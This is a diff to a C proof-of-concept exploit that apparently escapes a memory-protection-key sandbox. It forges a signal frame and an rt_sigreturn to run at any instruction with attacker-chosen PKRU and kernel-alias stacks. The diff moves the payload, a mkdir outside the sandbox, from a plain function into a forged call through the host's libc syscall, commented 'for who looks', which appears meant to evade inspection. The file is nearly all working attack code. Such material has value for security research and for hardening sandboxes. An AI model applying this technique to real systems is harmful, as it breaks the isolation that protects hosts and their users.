@@ -1,4 +1,4 @@
-/* none: contained; keys: succeeds: directory; full: contained */
+/* none: succeeds: directory; keys: contained; full: contained */
 #include <cpuid.h>
 
 #include "attack.h"
@@ -6,7 +6,7 @@
 /*
  * A signal that never came: jumps into the handler's first instructions, before they open the kernel's memory, with a stack in the
  * kernel's alias of the attacker's own memory. There lies what the host would have put there, and says that the kernel was
- * interrupted. So the handler goes back to it, by the host's own rt_sigreturn: to any instruction with any PKRU.
+ * interrupted. So the handler goes back to it, by the host's own rt_sigreturn: to any instruction with any PKRU, and to the host's calls.
  */
 #define MAGIC1 0x46505853u
 #define MAGIC2 0x46505845u
@@ -21,9 +21,8 @@ static uint8_t memory[4 * PAGE] __attribute__((aligned(PAGE)));
 static uint8_t new_stack[PAGE] __attribute__((aligned(64)));
 static const char *outside;
 
-static void goal(void)
+static void end(void)
 {
-	raw(SYS_mkdir, (long)outside, 0700, 0, 0, 0, 0);
 	raw(SYS_exit_group, 0, 0, 0, 0, 0, 0);
 }
 
@@ -57,7 +56,11 @@ int main(void)
 	fill_state(state);
 	frame->context.uc_mcontext.fpregs = (void *)alias_of(state);
 	frame->context.uc_flags = 7; /* extended state, and the segments as they are here */
-	r[REG_RIP] = (greg_t)goal;
+	*(void **)(new_stack + sizeof new_stack - 8) = end;
+	r[REG_RIP] = (greg_t)at("libc_syscall"); /* the kernel's, for who looks */
+	r[REG_RDI] = SYS_mkdir;
+	r[REG_RSI] = (greg_t)outside;
+	r[REG_RDX] = 0700;
 	r[REG_RSP] = (greg_t)(new_stack + sizeof new_stack - 8);
 	r[REG_EFL] = 0x202;
 	r[REG_CSGSFS] = (greg_t)(0x33 | 0x2bl << 48);
